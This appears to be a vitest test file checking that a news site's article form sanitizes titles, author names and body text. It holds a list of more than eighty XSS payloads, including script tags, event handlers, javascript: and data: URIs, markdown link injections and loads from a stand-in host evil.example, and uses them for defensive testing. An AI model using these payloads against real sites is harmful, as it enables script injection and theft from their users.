import { expect, test } from 'vitest'
import { articleIn } from '../../app/news/editing/article-form.ts'
import { visitor } from '../app.ts'
import { foreignScripts } from '../foreign-scripts.ts'
import { storedArticle } from '../stored-article.ts'

const run = 'alert(1)'

/** Ways to run a script or fetch something from elsewhere that an editor may try or be tricked into. */
const vectors = [
  ...['', ' src=//evil.example/x.js', '/x', ' type=module', ' \t\n'].map((more) => `<script${more}>${run}</script>`),
  ...['<SCRIPT>', '<scr<script>ipt>', '<script\u0000>', '&lt;script&gt;', '\\<script>', '<<script>'].map(
    (tag) => tag + run,
  ),
  ...['img src=x onerror', 'svg onload', 'body onload', 'input autofocus onfocus', 'details open ontoggle'].map(
    (tag) => `<${tag}=${run}>`,
  ),
  ...['video src=x onerror', 'audio src=x onerror', 'marquee onstart', 'select autofocus onfocus', 'a onclick'].map(
    (tag) => `<${tag}='${run}'>`,
  ),
  ...['iframe src', 'embed src', 'object data', 'form action', 'a href', 'base href', 'math href'].map(
    (tag) => `<${tag}="javascript:${run}">x`,
  ),
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>@import "//evil.example/x.css"</style>',
  '<div style="background:url(//evil.example/x)">x</div>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea></textarea><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '--><script>alert(1)</script><!--',
  ']]><script>alert(1)</script>',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '" onmouseover="alert(1)',
  "' autofocus onfocus='alert(1)",
  '`-alert(1)-`',
  '$' + '{alert(1)}',
  '{{constructor.constructor("alert(1)")()}}',
  '\u2028alert(1)\u2029',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<?xml version="1.0"?><x onload=alert(1)>',
  ...[
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    ' javascript:alert(1)',
    'java\tscript:alert(1)',
    'java&#10;script:alert(1)',
    '&#106;avascript:alert(1)',
    'javascript&colon;alert(1)',
    '\u0001javascript:alert(1)',
    'vbscript:msgbox(1)',
    'data:text/html,<script>alert(1)</script>',
    'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
    'blob:https://evil.example/x',
    'file:///etc/passwd',
    'view-source:javascript:alert(1)',
    'feed:javascript:alert(1)',
    '//evil.example/x',
    '/\\evil.example/x',
    'https:evil.example',
    '#"onclick="alert(1)',
  ].flatMap((address) => [`[x](<${address}>)`, `![x](<${address}>)`]),
  '[x]: javascript:alert(1)\n\n[x]',
  '<javascript:alert(1)>',
  '![x](https://evil.example/pixel.gif "t")',
  '![x"onerror="alert(1)](/media/00000000000000000000000000000000)',
  '[x](https://example.org/"onmouseover="alert(1))',
  '[x](https://example.org "t\\" onmouseover=\\"alert(1)")',
  '```html\n<script>alert(1)</script>\n```',
  '`<script>alert(1)</script>`',
]

const tags = new Set(
  'article a bdi span picture header p time h1 h2 h3 h4 h5 h6 div em strong ul ol li blockquote code pre hr br img footer'.split(
    ' ',
  ),
)
const attributes = new Set(
  'class dir href rel src alt width height loading decoding dateTime aria-hidden title data-discover start'.split(' '),
)

test('there are at least eighty vectors', () => {
  expect(new Set(vectors).size).toBeGreaterThanOrEqual(80)
})

test('no vector in a title, an author or a text becomes a tag, an attribute or a URL', async () => {
  for (const [place, vector] of vectors.entries()) {
    const id = await storedArticle(
      typed({ title: vector, authorName: vector, content: `Before\n\n${vector}\n\nafter` }),
    )
    await expectOurs(`/post/${id}`, vector)
    // The list shows the last ten together.
    if (place % 10 === 9 || place === vectors.length - 1) await expectOurs('/news-and-insights', vector)
  }
})

function typed(fields: Record<string, string>) {
  const form = new FormData()
  for (const [name, value] of Object.entries(fields)) form.append(name, value)
  return articleIn(form)
}

async function expectOurs(address: string, vector: string) {
  const answer = await visitor.get(address)
  expect(answer.status, vector).toBe(200)
  const html = await answer.text()
  expect(foreignScripts(html, answer), vector).toEqual([])
  for (const [, own = ''] of html.matchAll(/<article([\s\S]*?)<\/article>/g)) {
    for (const [tag, name = '', rest = ''] of `<article${own}`.matchAll(/<([^\s/>!?]+)([^>]*)>/g)) {
      expect(tags.has(name), `${tag} of ${vector}`).toBe(true)
      for (const [, attribute = '', value = ''] of rest.matchAll(/([^\s=/"']+)(?:="([^"]*)")?/g)) {
        expect(attributes.has(attribute), `${attribute} in ${tag} of ${vector}`).toBe(true)
        if (attribute === 'src') expect(value, vector).toMatch(/^\/(?:media\/[0-9a-f]{32}|avatar\?name=[^"]*)$/)
        if (attribute === 'href') expect(value, vector).toMatch(/^(?:\/(?![/\\])|#|(?:https?|ircs?|mailto|xmpp):)/)
        if (attribute === 'href' && /^\w+:/.test(value))
          expect(tag, vector).toContain('rel="noopener noreferrer nofollow"')
      }
    }
  }
}
